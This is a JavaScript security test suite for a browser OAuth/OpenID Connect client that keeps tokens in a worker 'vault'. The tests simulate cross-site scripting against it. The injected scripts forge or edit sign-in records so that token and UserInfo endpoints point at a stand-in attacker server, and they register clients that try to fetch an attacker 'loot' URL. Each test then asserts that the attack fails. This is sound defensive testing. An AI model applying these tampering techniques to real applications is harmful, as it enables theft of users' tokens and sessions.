/**
 * A script that enters the page after the library has loaded and opens its own ports to the vault.
 *
 * The worker's policy allows the attacker's server, so that only the client itself can prevent a leak.
 */
import assert from 'node:assert/strict';
import {
  attack,
  attacked,
  call,
  outcome,
  strayed,
  thereAndBack,
  userinfo,
  visit,
  withStranger,
} from '../support/attacker.mjs';
import { story } from '../support/stage.mjs';

/** The page is restored only from a vault that still runs: it does not restore a session through the provider. */
const QUIET = attacked("restore: 'vault',");

/** The provider's metadata with these members replaced. */
const metadata = ({ issuer }, members) => ({
  issuer,
  authorization_endpoint: `${issuer}/authorize`,
  token_endpoint: `${issuer}/token`,
  jwks_uri: `${issuer}/jwks`,
  userinfo_endpoint: `${issuer}/userinfo`,
  ...members,
});

/** The attacker's addresses to which the vault could be made to send something. */
const targets = ({ site }, stranger) => [
  ['the token endpoint', { token_endpoint: `${stranger.url}token` }],
  ['UserInfo', { userinfo_endpoint: `${stranger.url}userinfo` }],
  ['UserInfo at an address of the page’s own origin', { userinfo_endpoint: `${site.origin}/trap/userinfo` }],
];

/** Gives the vault records of sign-ins that never happened, in the form with metadata and in the form without. */
function forge(stage, stranger, endpoints, { sameState = false } = {}) {
  const { issuer, clientId: client_id } = stage.site.settings.config;
  const members = [
    { issuer, client_id, metadata: JSON.stringify(metadata(stage.provider, endpoints)) },
    { issuer, client_id },
    { issuer, client_id, ...endpoints },
    { issuer: stranger.url, client_id, redirect_uri: stranger.url },
  ];
  return attack(
    stage,
    `async ({ openAs, honest, forged, kept }, config, members, sameState) => {
    const port = (kept.port = await openAs(honest(config)));
    for (const [index, one] of members.entries()) {
      const state = 'vk.forged-' + index;
      const answer = new URLSearchParams({ code: 'forged', state, iss: config.issuer });
      const address = location.href + '?' + answer;
      const record = forged({ state: sameState ? state : 'vk.another', redirect_uri: location.href, ...one });
      await port.complete({ address, state, record });
    }
    return port.refused ?? null;
  }`,
    stage.site.settings.config,
    members,
    sameState,
  );
}

const WAYS = {
  'in a popup': (stage) => stage.page.click('button', 'Popup'),
  'in a frame': (stage) => stage.page.click('button', 'Silent'),
  'by a redirect': thereAndBack,
  'by a redirect in another tab': async (stage) => {
    await stage.browser.newTab();
    await stage.visit();
    await thereAndBack(stage);
  },
  'in a popup of another tab': async (stage) => {
    await stage.browser.newTab();
    await stage.visit();
    await stage.page.click('button', 'Popup');
  },
};

/** The ways to sign in during which the script's page stays loaded. */
const STAYS = ['in a popup', 'in a frame'];

for (const [way, signIn] of Object.entries(WAYS)) {
  story(`XSS-30 P0: a record forged before a sign-in ${way} redirects no request to the attacker`, QUIET, (stage) =>
    withStranger(stage, async (stranger) => {
      const { page } = stage;
      for (const [index, [what, endpoints]] of targets(stage, stranger).entries()) {
        await visit(stage, `demo-${index}`);
        assert.equal(await forge(stage, stranger, endpoints), null, 'the script has a client');
        await signIn(stage);
        await page.see(/Signed in as alice|Told: /);
        const asked = await userinfo(stage);
        assert.deepEqual(strayed(stage, stranger), [], what);
        assert.deepEqual([asked, await call(stage)], ['alice', 200], what);
        if (STAYS.includes(way))
          assert.equal(
            await attack(stage, 'async ({ kept }) => kept.port.session()'),
            'alice',
            'the script used the page’s own client',
          );
      }
    }),
  );
}

story(
  'XSS-30 P0: a forged record with the `state` of a real sign-in redirects no request to the attacker',
  QUIET,
  (stage) =>
    withStranger(stage, async (stranger) => {
      for (const [index, [what, endpoints]] of targets(stage, stranger).entries()) {
        await visit(stage, `demo-${index}`);
        await forge(stage, stranger, endpoints, { sameState: true });
        await userinfo(stage);
        assert.deepEqual(strayed(stage, stranger), [], what);
      }
    }),
);

/** The changes that the script makes to a pending record in session storage. */
const edits = (stage, stranger) => {
  const { provider, site } = stage;
  const evil = {
    token_endpoint: `${stranger.url}token`,
    jwks_uri: `${stranger.url}jwks`,
    userinfo_endpoint: `${site.origin}/trap/userinfo`,
  };
  return [
    ['metadata', { metadata: JSON.stringify(metadata(provider, evil)) }],
    [
      'metadata of another issuer',
      { issuer: stranger.url, metadata: JSON.stringify(metadata(provider, { issuer: stranger.url, ...evil })) },
    ],
    ['endpoints', { ...evil, server: evil }],
    ['the issuer', { issuer: stranger.url }],
    ['the redirect page', { redirect_uri: stranger.url }],
    ['the client', { client_id: 'of-the-script' }],
  ];
};

story(
  'XSS-31 P0: a record edited before the page leaves sends the code to the issuer’s token endpoint or nowhere',
  { ...QUIET, homes: ['shared', 'dedicated'] },
  (stage) =>
    withStranger(stage, async (stranger) => {
      const { page, provider, site } = stage;
      for (const [index, [what, members]] of edits(stage, stranger).entries()) {
        await visit(stage, `demo-${index}`);
        await attack(
          stage,
          `async ({ onLeaving, edit }, members) => onLeaving((key) => {
        edit(key, members);
        localStorage.setItem('edited', Number(localStorage.getItem('edited')) + 1);
      })`,
          members,
        );
        const asked = provider.requests.length;
        await thereAndBack(stage);
        if ((await page.text()).includes('Signed in')) await userinfo(stage);
        assert.deepEqual(strayed(stage, stranger), [], what);
        for (const { form } of provider.requests.slice(asked).filter(({ place }) => place === '/token')) {
          assert.deepEqual([form.client_id, form.redirect_uri], [`demo-${index}`, site.url], what);
        }
        assert.equal(await page.url(), site.url, `${what}: the address bar is clean`);
        assert.equal(
          Number(
            await page.run(
              "async () => { const edited = localStorage.getItem('edited'); localStorage.clear(); return edited; }",
            ),
          ),
          1,
          `${what}: edited`,
        );
        // The next sign-in is not affected.
        await thereAndBack(stage);
        assert.deepEqual([await userinfo(stage), await call(stage)], ['alice', 200], what);
        assert.deepEqual(strayed(stage, stranger), [], what);
      }
    }),
);

const LIVE = attacked();

/** The page's own client is unchanged: signed in, and with its list. */
async function checkHonest(stage, stranger, when) {
  const { page } = stage;
  assert.equal(await page.run('async () => client.session?.sub'), 'alice', when);
  assert.equal(await call(stage), 200, when);
  assert.equal(await userinfo(stage), 'alice', when);
  assert.equal(await outcome(stage, `client.fetch(${JSON.stringify(stranger.url)})`), 'request_blocked', when);
  assert.deepEqual(stranger.taken, [], when);
}

/** The outcomes for a client without a session: its session, and a call to each address. */
const NOTHING = [null, 'login_required', 'login_required'];

const askAll = `async (port, urls) => [await port.session(), ...(await Promise.all(urls.map((url) => port.fetch(url))))]`;

async function signedIn(stage) {
  await visit(stage);
  await stage.page.click('button', 'Popup');
  await stage.page.see('Signed in as alice');
}

/** The addresses that the script tries to call: the app's API and the attacker's server. */
const wanted = (stage, stranger) => [`${stage.provider.issuer}/api/me`, `${stranger.url}loot`];

story(
  'XSS-32 P0: clients configured at the same time with longer API lists do not replace the app’s client',
  LIVE,
  (stage) =>
    withStranger(stage, async (stranger) => {
      const { page, provider, site } = stage;
      await signedIn(stage);
      const [first] = await stage.openBeside(); // the script is in the second tab
      const asked = provider.count('/token');
      const said = await attack(
        stage,
        `async ({ open, honest, kept }, config, stranger, urls) => {
      const ports = Array.from({ length: 4 }, () => open());
      await Promise.all(ports.map((port) => port.ask('session'))); // all are there
      const options = honest(config);
      const lists = ports.map((_, index) => [...options.api, stranger, ...[stranger + index + '/'].slice(0, index)]);
      await Promise.all(ports.map((port, index) => port.ask('configure', { options: { ...options, api: lists[index] } })));
      kept.ports = ports;
      return Promise.all(ports.map((port) => (${askAll})(port, urls)));
    }`,
        site.settings.config,
        stranger.url,
        wanted(stage, stranger),
      );
      await checkHonest(stage, stranger, 'in the tab of the script');
      await page.driver.switchTo().window(first);
      await checkHonest(stage, stranger, 'in another tab');
      assert.deepEqual(said, Array(4).fill(NOTHING), 'the script’s clients have no session');
      assert.equal(provider.count('/token'), asked, 'and request none');

      await page.reload();
      await page.see('Signed in as alice');
      await checkHonest(stage, stranger, 'after a reload');
    }),
);

story(
  'XSS-33 P0: a client with a longer API list, configured while its own tab is busy, does not replace the app’s client',
  LIVE,
  (stage) =>
    withStranger(stage, async (stranger) => {
      const { page, site } = stage;
      await signedIn(stage);
      const said = await attack(
        stage,
        `async ({ open, honest }, config, stranger, urls) => {
      const port = open();
      await port.ask('session'); // it is there
      const configured = port.ask('configure', { options: { ...honest(config), api: [...config.api, stranger] } });
      for (const end = performance.now() + 900; performance.now() < end; );
      await configured;
      return (${askAll})(port, urls);
    }`,
        site.settings.config,
        stranger.url,
        wanted(stage, stranger),
      );
      await checkHonest(stage, stranger, 'after it was busy');
      assert.deepEqual(said, NOTHING, 'the script’s client has no session');

      await page.reload();
      await page.see('Signed in as alice');
      await checkHonest(stage, stranger, 'after a reload');
    }),
);

story(
  'XSS-33 P0: a client with a longer API list, configured while the app’s tab is busy, does not replace the app’s client',
  LIVE,
  (stage) =>
    withStranger(stage, async (stranger) => {
      const { browser, page, site } = stage;
      await signedIn(stage);
      const app = await page.driver.getWindowHandle();
      const other = await browser.newTab();
      await page.goto(`${site.origin}/www/style.css`); // a page without the app
      await attack(stage, "async ({ open, kept }) => { kept.port = open(); await kept.port.ask('session'); }");
      const busy = Date.now() + 1500;
      await page.driver.switchTo().window(app);
      await page.run(
        'async (busy) => void setTimeout(() => { while (Date.now() < busy + 2500); }, busy - Date.now())',
        busy,
      );
      await page.driver.switchTo().window(other);
      const said = await attack(
        stage,
        `async ({ kept: { port }, honest }, busy, config, stranger, urls) => {
      await new Promise((next) => setTimeout(next, busy + 500 - Date.now()));
      await port.ask('configure', { options: { ...honest(config), api: [...config.api, stranger] } });
      return (${askAll})(port, urls);
    }`,
        busy,
        site.settings.config,
        stranger.url,
        wanted(stage, stranger),
      );
      await page.driver.switchTo().window(app);
      await checkHonest(stage, stranger, 'after it was busy');
      assert.deepEqual(said, NOTHING, 'the script’s client has no session');

      await page.reload();
      await page.see('Signed in as alice');
      await checkHonest(stage, stranger, 'after a reload');
    }),
);

story(
  'XSS-34 P0: a longer API list makes a separate client without a session, and a port keeps its client',
  LIVE,
  (stage) =>
    withStranger(stage, async (stranger) => {
      const { site } = stage;
      await signedIn(stage);
      const said = await attack(
        stage,
        `async ({ openAs, honest }, config, stranger, urls) => {
      const same = honest(config);
      const longer = { ...same, api: [...same.api, stranger] };
      const ask = ${askAll};
      const [one, two] = [await openAs(longer), await openAs(same)];
      const outcomes = { longer: [one.refused ?? null, ...(await ask(one, urls))], same: await ask(two, urls) };
      outcomes.renamed = (await two.ask('configure', { options: longer })).error;
      outcomes.afterwards = await ask(two, urls);
      outcomes.back = [(await one.ask('configure', { options: same })).error, ...(await ask(one, urls))];
      return outcomes;
    }`,
        site.settings.config,
        stranger.url,
        wanted(stage, stranger),
      );
      await checkHonest(stage, stranger, 'afterwards');
      assert.deepEqual(said.longer, [null, ...NOTHING], 'a separate client');
      // The documented limit: a script of this origin can act as the user.
      assert.deepEqual(said.same, ['alice', 200, 'request_blocked'], 'the page’s own client');
      assert.equal(said.renamed, 'config_error');
      assert.deepEqual(said.afterwards, said.same, 'the port has kept its client');
      assert.deepEqual(said.back, ['config_error', ...NOTHING]);
    }),
);

story('XSS-35 P0: the `state` of a popup sign-in uses no stored record, genuine or forged', QUIET, async (stage) => {
  const { provider, site } = stage;
  await visit(stage);
  const outcomes = await attack(
    stage,
    `async ({ openAs, honest, forged }, config) => {
    const port = await openAs(honest(config));
    const said = [];
    for (const [state, record] of [['vk.forged.w'], ['vk.forged.w', 'vk.forged.w'], ['forged.w', 'forged.w']].map(([state, own = state]) => [state, own])) {
      const members = { state: record, issuer: config.issuer, client_id: config.clientId, metadata: '', redirect_uri: location.href };
      await port.complete({ address: location.href + '?code=of-the-script&state=' + state + '&iss=' + encodeURIComponent(config.issuer), state, record: forged(members) });
      said.push(await port.session());
    }
    return said;
  }`,
    site.settings.config,
  );
  assert.equal(provider.count('/token'), 0);
  assert.deepEqual([...new Set(outcomes)], [null]);
});
